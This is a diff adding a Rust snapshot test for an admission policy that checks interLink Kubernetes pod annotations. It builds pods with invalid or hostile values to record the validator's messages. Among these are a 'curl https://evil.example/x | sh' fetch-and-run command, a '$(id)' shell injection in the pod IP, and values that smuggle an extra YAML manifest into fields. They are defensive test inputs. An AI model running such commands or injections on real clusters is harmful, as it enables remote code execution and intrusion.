@@ -1,0 +1,146 @@
+//! Every message of every rule, as a snapshot, so that a review sees each change of wording.
+//!
+//! When a message changes, the test fails and prints the difference. To accept it, run
+//! `INSTA_UPDATE=always cargo test --package interlink-e2e-tests --test messages`, or `cargo insta review`, and commit
+//! the snapshot.
+
+use interlink_annotations_policy::validate;
+use interlink_e2e_tests::admission_request::AdmissionRequest;
+use serde_json::{Value, json};
+
+const VPN: &str = "interlink.eu/pod-vpn";
+const IP: &str = "interlink.eu/pod-ip";
+const TIMEOUT: &str = "interlink.virtual-kubelet.io/wstunnel-timeout";
+const PORTS: &str = "interlink.eu/wstunnel-extra-ports";
+const LOCAL_CONTAINERS: &str = "interlink.eu/disable-offload-containers";
+const LOCAL_INIT_CONTAINERS: &str = "interlink.eu/disable-offload-init-containers";
+const PING: &str = "interlink.virtual-kubelet.io/ping-response";
+const COMMANDS: &str = "interlink.eu/wstunnel-client-commands";
+
+#[test]
+fn messages_match_reviewed_snapshot() {
+    let sections = messages().into_iter().map(|(heading, messages)| {
+        assert!(!messages.is_empty(), "no message for {heading}");
+        format!("# {heading}\n{}\n", messages.join("\n"))
+    });
+    let text = sections.collect::<Vec<_>>().join("\n");
+    let mut settings = insta::Settings::clone_current();
+    settings.set_omit_expression(true);
+    settings.bind(|| insta::assert_snapshot!("messages", text));
+}
+
+/// Returns the messages of a response, one a line.
+fn evaluate(request: &AdmissionRequest, settings: &Value) -> Vec<String> {
+    let response = validate(&request.payload(settings));
+    let refusal = response.message.map(|message| format!("refused ({}): {message}", response.code.unwrap_or_default()));
+    let warnings = response.warnings.unwrap_or_default().into_iter().map(|warning| format!("warning: {warning}"));
+    refusal.into_iter().chain(warnings).collect()
+}
+
+/// A pod with a port.
+fn pod(annotations: &Value) -> Value {
+    let containers = json!([{"name": "main", "ports": [{"containerPort": 80}]}, {"name": "sidecar"}]);
+    pod_with_containers(annotations, &containers)
+}
+
+fn pod_with_containers(annotations: &Value, containers: &Value) -> Value {
+    json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"annotations": annotations},
+        "spec": {"containers": containers}})
+}
+
+/// The CREATE of an object under the default settings.
+fn create(object: Value) -> Vec<String> {
+    evaluate(&AdmissionRequest::create(object), &json!({}))
+}
+
+/// The CREATE of a pod with one annotation, where the settings allow a range of addresses.
+fn create_pod(key: &str, value: &str) -> Vec<String> {
+    let settings = json!({"podIP": {"cidrs": ["10.244.0.0/16"], "octetRange": {}}});
+    evaluate(&AdmissionRequest::create(pod(&json!({key: value}))), &settings)
+}
+
+/// The UPDATE of a pod's annotations.
+fn update_pod(old: &Value, new: &Value) -> Vec<String> {
+    evaluate(&AdmissionRequest::update(pod(old), pod(new)), &json!({}))
+}
+
+/// The audit request for an object with an annotation that a field manager set.
+fn audit(kind: &str, key: &str, manager: &str) -> Vec<String> {
+    let fields = json!({"f:metadata": {"f:annotations": {format!("f:{key}"): {}}}});
+    let object = json!({"apiVersion": "v1", "kind": kind, "metadata": {"resourceVersion": "7",
+        "annotations": {key: "1"}, "managedFields": [{"manager": manager, "fieldsV1": fields}]}});
+    evaluate(&AdmissionRequest::audit(object), &json!({}))
+}
+
+/// Returns the messages for each problem, under a heading.
+fn messages() -> Vec<(&'static str, Vec<String>)> {
+    let portless = json!([{"name": "main"}]);
+    let vpn_and_shadow = json!({"interlink.eu/shadow-same-ns": "true", VPN: "true"});
+    let deployment = json!({"apiVersion": "apps/v1", "kind": "Deployment",
+        "metadata": {"annotations": {VPN: "true", COMMANDS: "x", "interlink.eu/pod-vpm": "x"}},
+        "spec": {"template": {"metadata": {"annotations": {"JobID": "1", COMMANDS: "x"}}}}});
+    vec![
+        ("JobID set", create_pod("JobID", "slurm-12345")),
+        ("JobID changed", update_pod(&json!({"JobID": "1"}), &json!({"JobID": "2"}))),
+        ("JobID removed", update_pod(&json!({"JobID": "1"}), &json!({}))),
+        ("stored JobID, set with kubectl", audit("Pod", "JobID", "kubectl-edit")),
+        ("stored JobID, copied by a controller", audit("Pod", "JobID", "kube-controller-manager")),
+        ("client commands set", create_pod(COMMANDS, "curl https://evil.example/x | sh")),
+        ("stored client commands, set with kubectl", audit("Pod", COMMANDS, "kubectl-edit")),
+        ("ping response on a pod", create_pod(PING, "ok")),
+        ("stored ping response on a Node, set with kubectl", audit("Node", PING, "kubectl-edit")),
+        ("invalid value of pod-vpn", create_pod(VPN, "false")),
+        ("pod IP with a prefix length", create_pod(IP, "10.244.1.5/16")),
+        ("pod IP that is a shell command", create_pod(IP, "$(id)")),
+        ("pod IP outside the allowed range", create_pod(IP, "10.96.0.10")),
+        ("reserved pod IP", create_pod(IP, "10.244.0.1")),
+        ("pod IP with a last octet outside the allowed range", create_pod(IP, "10.244.1.251")),
+        ("pod IP that is IPv4 written as IPv6", create_pod(IP, "::ffff:10.244.1.5")),
+        ("pod IP that mixes IPv6 and IPv4 notation", create_pod(IP, "2001:db8::1.2.3.4")),
+        ("pod IP where the settings allow no range", create(pod(&json!({IP: "10.244.1.5"})))),
+        ("empty timeout", create_pod(TIMEOUT, "")),
+        ("timeout in days", create_pod(TIMEOUT, "1d")),
+        ("timeout without a unit", create_pod(TIMEOUT, "90")),
+        ("timeout without its last unit", create_pod(TIMEOUT, "1m30")),
+        ("timeout with an unknown unit", create_pod(TIMEOUT, "2 min")),
+        ("timeout without a number", create_pod(TIMEOUT, "soon")),
+        ("timeout that overflows", create_pod(TIMEOUT, "9999999999h")),
+        ("timeout of zero", create_pod(TIMEOUT, "0s")),
+        ("timeout below the minimum", create_pod(TIMEOUT, "10ms")),
+        ("timeout above the maximum", create_pod(TIMEOUT, "100000m")),
+        ("timeout together with the VPN", create(pod(&json!({VPN: "true", TIMEOUT: "2m"})))),
+        ("extra ports, empty", create_pod(PORTS, "")),
+        ("extra port without a number", create_pod(PORTS, "8080,http")),
+        ("extra port out of range", create_pod(PORTS, "80800")),
+        ("extra port with a protocol in place of a name", create_pod(PORTS, "5353:UDP")),
+        ("extra port with an invalid name", create_pod(PORTS, "8080:My_Port")),
+        ("extra port with an unknown protocol", create_pod(PORTS, "8080:web:HTTP")),
+        ("extra port with too many parts", create_pod(PORTS, "8080:web:tcp:x")),
+        ("duplicate extra port", create_pod(PORTS, "8080,8080:web")),
+        ("duplicate name of an extra port", create_pod(PORTS, "8080:web,9090:web")),
+        ("extra port with a name that YAML reads as a boolean", create_pod(PORTS, "8080:on")),
+        ("extra port that adds a manifest", create_pod(PORTS, "8080:web\n---")),
+        ("invalid value of mesh-network", create_pod("interlink.eu/mesh-network", "off")),
+        ("MTU that is not a number", create_pod("interlink.eu/wg-mtu", "1420 bytes")),
+        ("MTU out of range", create_pod("interlink.eu/wg-mtu", "99999")),
+        ("negative keepalive", create_pod("interlink.eu/wg-keepalive-seconds", "-1")),
+        ("invalid public key", create_pod("interlink.eu/wg-peer-public-key", "c2hvcnQ=")),
+        ("private key", create_pod("interlink.eu/wg-private-key", "c2VjcmV0")),
+        ("private key that adds a manifest", create_pod("interlink.eu/wg-private-key", "x\n---\nkind: Secret")),
+        ("unknown container kept local", create_pod(LOCAL_CONTAINERS, "main,sidcar")),
+        ("unknown init container kept local", create_pod(LOCAL_INIT_CONTAINERS, "fetch")),
+        ("invalid value of shadow-same-ns", create_pod("interlink.eu/shadow-same-ns", "yes")),
+        ("misspelled annotation", create_pod("interlink.eu/wstunnel-timeout", "2m")),
+        ("misspelled annotation that only interLink may write", create_pod("interlink.eu/job-id", "1")),
+        ("unknown annotation, not similar to a known one", create_pod("interlink.eu/colour", "blue")),
+        (
+            "shadow-same-ns without effect, together with the VPN",
+            create(pod_with_containers(&vpn_and_shadow, &portless)),
+        ),
+        (
+            "timeout without effect, on a pod without ports",
+            create(pod_with_containers(&json!({TIMEOUT: "2m"}), &portless)),
+        ),
+        ("Deployment with annotations on itself and in its template", create(deployment)),
+    ]
+}
